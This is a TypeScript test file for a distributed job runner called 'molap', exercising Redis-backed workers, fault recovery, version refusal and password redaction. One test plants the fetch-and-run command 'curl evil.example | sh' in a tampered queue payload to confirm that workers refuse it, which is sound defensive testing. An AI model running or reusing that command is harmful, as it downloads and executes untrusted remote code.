/**
 * `molap run --executor redis://…` with real `molap worker` processes and a real redis-server (started here on
 * a free port, persistence off): the tiny study of @molap/study's fixture gives its results.json exactly
 * (timings and the creating package aside), also when a worker is SIGKILLed mid-job, when the coordinator is
 * SIGKILLed and resumed, and when Redis restarts empty mid-run. A worker of another molap version refuses,
 * and a job that always throws stops the run after its attempts, naming the job, the worker and the error.
 *
 * Skipped, with a message, when redis-server is not installed (tools/install-redis.sh installs it; CI has it).
 * These tests use the built `molap` binary (npm test builds it first) and run after the other projects
 * (`sequence.groupOrder` in vitest.config.ts), so their worker processes do not slow the others' timed tests.
 */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createScratch, linkExamplePlugin, molap, repoRoot, type Scratch, startMolap } from '../../cli/test/support.js';
import { findRedisServer, type RedisServer, startRedis } from './redis.js';

const server = findRedisServer();
if (!server) {
  console.warn('redis-server is not installed: the distributed tests are skipped (run tools/install-redis.sh)');
}

const fixture = (name: string) => readFileSync(join(repoRoot, 'packages/study/test/fixtures', name), 'utf8');
const readJson = (path: string) => JSON.parse(readFileSync(path, 'utf8'));
/** results.json without what may differ between runs (wall-clock times, the creating package). */
const comparable = (runDir: string) => {
  const { timings, createdBy, ...results } = readJson(join(runDir, 'results.json'));
  return results;
};
/** Finished jobs in a run folder (their output.json files). */
const finishedJobs = (runDir: string) => {
  try {
    return readdirSync(join(runDir, 'state', 'jobs'), { recursive: true }).filter((path) =>
      String(path).endsWith('output.json'),
    ).length;
  } catch {
    return 0;
  }
};
const until = async (what: string, check: () => boolean, seconds = 60) => {
  const end = Date.now() + seconds * 1000;
  while (!check()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
};
/** The run folder named by the `run-start` event of a JSON-mode run's stderr. */
const runDirOf = (stderr: string) => {
  const line = stderr.split('\n').find((text) => text.includes('"run-start"'));
  return line ? (JSON.parse(line).runDir as string) : undefined;
};

/** The fixture's tiny study, and a smaller one (two models, one seed: 12 jobs) for the fault tests. */
let scratch: Scratch;
let small: Scratch;
let expected: unknown;
let expectedSmall: unknown;
const SMALL_JOBS = 12;
beforeAll(async () => {
  scratch = createScratch('molap-cli-distributed-');
  scratch.write('molap.config.json', fixture('tiny-study.config.json'));
  expected = JSON.parse(fixture('tiny-study.results.json'));
  small = createScratch('molap-cli-distributed-small-');
  const config = JSON.parse(fixture('tiny-study.config.json'));
  config.run = { ...config.run, models: ['molap', 'multitask'], seeds: [1] };
  small.write('molap.config.json', config);
  if (!server) return;
  const local = await molap(['run', '--json', '--out', 'local'], { cwd: small.root });
  expect(local.code, local.stderr).toBe(0);
  const runDir = JSON.parse(local.stdout).runDir;
  expect(finishedJobs(runDir)).toBe(SMALL_JOBS);
  expectedSmall = comparable(runDir);
}, 60_000);
afterAll(() => {
  scratch?.remove();
  small?.remove();
});

describe.skipIf(!server)('molap run --executor redis://… with molap worker processes', () => {
  let redis: RedisServer;
  const workers: ReturnType<typeof startMolap>[] = [];
  const worker = (name: string, cwd = small.root) => {
    const started = startMolap(['worker', redis.url, '--name', name, '--lock-seconds', '3'], { cwd });
    workers.push(started);
    return started;
  };
  beforeAll(async () => {
    redis = await startRedis(server!);
  });
  afterAll(async () => {
    for (const { child } of workers) child.kill('SIGKILL');
    await redis?.stop();
  });
  const stopWorkers = async () => {
    for (const { child } of workers.splice(0)) {
      child.kill('SIGKILL');
      await new Promise((resolve) =>
        child.exitCode === null && child.signalCode === null ? child.once('exit', resolve) : resolve(0),
      );
    }
  };
  afterEach(stopWorkers);

  it('runs the tiny study on 2 workers with the results of a local run', async () => {
    const [a, b] = [worker('w1', scratch.root), worker('w2', scratch.root)];
    const result = await molap(['run', '--json', '--out', 'two', '--executor', redis.url], { cwd: scratch.root });
    expect(result.code, result.stderr).toBe(0);
    const runDir = JSON.parse(result.stdout).runDir as string;
    expect(comparable(runDir)).toEqual(expected);
    // Both workers took jobs; the queue is recorded in the run folder and gone from Redis.
    expect(a.output.stderr).toMatch(/done in/);
    expect(b.output.stderr).toMatch(/done in/);
    expect(readJson(join(runDir, 'state', 'distributed.json')).queue).toMatch(/^run-/);
  }, 90_000);

  it('finishes with the same results when a worker is SIGKILLed mid-job', async () => {
    const doomed = worker('doomed');
    const run = startMolap(['run', '--json', '--out', 'killed-worker', '--executor', redis.url], { cwd: small.root });
    await until('the first job to start', () => doomed.output.stderr.includes('job bank/seed-1\n'));
    doomed.child.kill('SIGKILL');
    const rescuer = worker('rescuer');
    const result = await run.exited;
    expect(result.code, result.stderr).toBe(0);
    expect(doomed.output.stderr).not.toMatch(/bank\/seed-1 done/);
    expect(rescuer.output.stderr).toMatch(/job bank\/seed-1 done/);
    expect(comparable(runDirOf(result.stderr)!)).toEqual(expectedSmall);
  }, 90_000);

  it('resumes with --resume --executor after the coordinator is SIGKILLed', async () => {
    worker('w1');
    worker('w2');
    const first = startMolap(['run', '--json', '--out', 'killed-coordinator', '--executor', redis.url], {
      cwd: small.root,
    });
    await until('the run folder', () => runDirOf(first.output.stderr) !== undefined);
    const runDir = runDirOf(first.output.stderr)!;
    await until('3 finished jobs', () => finishedJobs(runDir) >= 3);
    first.child.kill('SIGKILL');
    await first.exited;
    const done = finishedJobs(runDir);
    expect(done).toBeLessThan(SMALL_JOBS);
    const second = await molap(['run', '--json', '--resume', runDir, '--executor', redis.url], { cwd: small.root });
    expect(second.code, second.stderr).toBe(0);
    const resumed = second.stderr.split('\n').filter((line) => line.includes('"resumed":true')).length;
    expect(resumed).toBeGreaterThanOrEqual(done - 1); // the bank job reports no stage
    expect(comparable(runDir)).toEqual(expectedSmall);
  }, 90_000);

  it('enqueues again what Redis lost when it restarts without persistence', async () => {
    worker('w1');
    worker('w2');
    const run = startMolap(['run', '--json', '--out', 'redis-restart', '--executor', redis.url], { cwd: small.root });
    await until('the run folder', () => runDirOf(run.output.stderr) !== undefined);
    const runDir = runDirOf(run.output.stderr)!;
    await until('3 finished jobs', () => finishedJobs(runDir) >= 3);
    await redis.restart();
    const result = await run.exited;
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toMatch(/"type":"executor-requeued"/);
    expect(comparable(runDir)).toEqual(expectedSmall);
  }, 90_000);

  it('refuses, naming the difference, to serve a coordinator of another molap version', async () => {
    const { connectRedis, parseRedisUrl } = await import('../src/connection.js');
    const client = await connectRedis(parseRedisUrl(redis.url));
    const plan = { preset: 'quick' };
    const meta = {
      format: 'molap-distributed-run',
      formatVersion: 1,
      queue: 'run-other-version',
      runName: 'other-version',
      identity: { molapVersion: '0.0.1-other', plugins: {} },
      digest: createHash('sha256').update(JSON.stringify(plan)).digest('hex'),
      plan,
    };
    await client.set('molap:run-other-version:molap-meta', JSON.stringify(meta));
    await client.hset('molap:runs', 'run-other-version', JSON.stringify({ runName: 'other-version', startedAt: '' }));
    try {
      const result = await molap(['worker', redis.url, '--name', 'stranger'], { cwd: small.root });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(
        /worker stranger refuses the jobs of run other-version: molap 0\.1\.0 here, 0\.0\.1-other at the coordinator/,
      );
      const refusals = await client.lrange('molap:run-other-version:molap-refusals', 0, -1);
      expect(refusals.map((text) => JSON.parse(text))).toEqual([
        { worker: 'stranger', differences: ['molap 0.1.0 here, 0.0.1-other at the coordinator'] },
      ]);
    } finally {
      await client.flushall();
      client.disconnect();
    }
  }, 30_000);

  it('refuses a job whose payload was edited in Redis, and stops the run naming it', async () => {
    const run = startMolap(['run', '--json', '--out', 'edited', '--executor', redis.url], { cwd: small.root });
    await until('the run folder', () => runDirOf(run.output.stderr) !== undefined);
    const runDir = runDirOf(run.output.stderr)!;
    await until('the queue record', () => {
      try {
        return readJson(join(runDir, 'state', 'distributed.json')).queue !== undefined;
      } catch {
        return false;
      }
    });
    const { queue } = readJson(join(runDir, 'state', 'distributed.json'));
    const { connectRedis, parseRedisUrl } = await import('../src/connection.js');
    const client = await connectRedis(parseRedisUrl(redis.url));
    try {
      const key = `molap:${queue}:bank/seed-1`;
      await until('the first job in Redis', () => run.output.stderr.includes('"queued":'));
      const data = JSON.parse((await client.hget(key, 'data'))!);
      data.job.kind = 'shell';
      data.job.command = 'curl evil.example | sh';
      await client.hset(key, 'data', JSON.stringify(data));
    } finally {
      client.disconnect();
    }
    worker('careful');
    const result = await run.exited;
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(
      /job 'bank\/seed-1' failed on worker careful after 1 attempt: job 'bank\/seed-1' of run .* is refused: its payload is not a molap job/,
    );
    expect(finishedJobs(runDir)).toBe(0);
  }, 60_000);

  it('names a wrong password and a queue that does not exist, never showing the password', async () => {
    const locked = await startRedis(server!, ['--requirepass', 'right-one']);
    try {
      const wrong = locked.url.replace('redis://', 'redis://:wrong-one@');
      const run = await molap(['run', '--out', 'locked', '--executor', wrong], { cwd: small.root });
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(/Redis at redis:\/\/:\*\*\*@127\.0\.0\.1:\d+ refused the password/);
      expect(run.stderr).not.toContain('wrong-one');
      const right = locked.url.replace('redis://', 'redis://:right-one@');
      const lost = await molap(['worker', right, '--queue', 'run-nowhere'], { cwd: small.root });
      expect(lost.code).toBe(2);
      expect(lost.stderr).toMatch(/has no run with the queue 'run-nowhere'/);
      expect(lost.stderr).not.toContain('right-one');
    } finally {
      await locked.stop();
    }
  }, 30_000);

  it('stops the run naming the job, the worker and the error when a job always throws', async () => {
    const project = createScratch('molap-cli-crashing-');
    try {
      project.write('package.json', {
        name: 'lab',
        private: true,
        dependencies: { 'molap-task-neurogym-classics': '^0.1.0', 'molap-task-crashing': '1.0.0' },
      });
      linkExamplePlugin(project);
      project.write('node_modules/molap-task-crashing/package.json', {
        name: 'molap-task-crashing',
        version: '1.0.0',
        type: 'module',
        molap: { apiVersion: 1, tasks: './tasks.js' },
      });
      project.write(
        'node_modules/molap-task-crashing/tasks.js',
        [
          "import { tasks as classics } from 'molap-task-neurogym-classics';",
          'const [base] = classics;',
          'export const tasks = [{ ...base, id: "lab/crashes", rule: base.rule ?? base.id, meta: { ...base.meta, displayName: "Crashes" },',
          // Small batches work (discovery's conformance check, the resource plan's probe, training on 8 trials);
          // the 16 evaluation trials fail, every time: a job that always throws.
          '  generate(rng, options) { if (options.batchSize > 8) throw new Error("lab/crashes cannot make trials");',
          '    return { ...base.generate(rng, options), taskId: "lab/crashes" }; } }];',
        ].join('\n'),
      );
      const config = JSON.parse(fixture('tiny-study.config.json'));
      config.run = { ...config.run, tasks: ['fdgo', 'dm1', 'lab/crashes'], heldOut: ['lab/crashes'] };
      config.run.models = ['multitask'];
      config.run.seeds = [1];
      // No rules option: the rule inputs are composed for the run's tasks (the Yang rules, then the plugin's).
      project.write('molap.config.json', config);
      worker('steady', project.root);
      const result = await molap(['run', '--out', 'runs', '--executor', redis.url], { cwd: project.root });
      expect(result.code, result.stderr).toBe(1);
      expect(result.stderr).toMatch(
        /job 'generalisation\/multitask\/seed-1\/own\/lab_2Fcrashes' failed on worker steady after 3 attempts: .*lab\/crashes cannot make trials/,
      );
      expect(result.stderr).toMatch(/--resume .* --executor redis:\/\/127\.0\.0\.1:\d+/);
    } finally {
      await stopWorkers();
      project.remove();
    }
  }, 90_000);

  it('keeps a long job on its worker: training renews the job lock, nothing is run twice', async () => {
    // A job that trains for several lock durations in one thread while another worker waits: the waiting
    // worker checks for stalled jobs twice a second. Training gives the event loop turns, so the busy worker
    // renews its lock and no job is taken over and run again (its first result thrown away).
    const project = createScratch('molap-cli-distributed-long-');
    try {
      const config = JSON.parse(fixture('tiny-study.config.json'));
      config.run = {
        ...config.run,
        models: ['multitask'],
        seeds: [1],
        budget: { ...config.run.budget, steps: 250, batchSize: 32, evalEvery: 0 },
        network: { hiddenSize: 64 },
      };
      project.write('molap.config.json', config);
      const long = [1, 2].map((n) =>
        startMolap(['worker', redis.url, '--name', `long${n}`, '--lock-seconds', '1'], { cwd: project.root }),
      );
      workers.push(...long);
      const started = performance.now();
      const result = await molap(['run', '--json', '--out', 'runs', '--executor', redis.url], { cwd: project.root });
      expect(result.code, result.stderr).toBe(0);
      const logs = long.map(({ output }) => output.stderr).join('');
      const starts = logs.split('\n').filter((line) => line.endsWith('job train/multitask/seed-1'));
      expect(starts, logs).toHaveLength(1);
      expect(logs).toMatch(/job train\/multitask\/seed-1 done in (\d+\.\d) s/);
      const seconds = Number(/job train\/multitask\/seed-1 done in (\d+\.\d) s/.exec(logs)?.[1]);
      // the test means something only if the job outlived its lock several times
      expect(seconds, `the job took ${seconds} s of ${(performance.now() - started) / 1000} s`).toBeGreaterThan(2);
    } finally {
      await stopWorkers();
      project.remove();
    }
  }, 90_000);
});
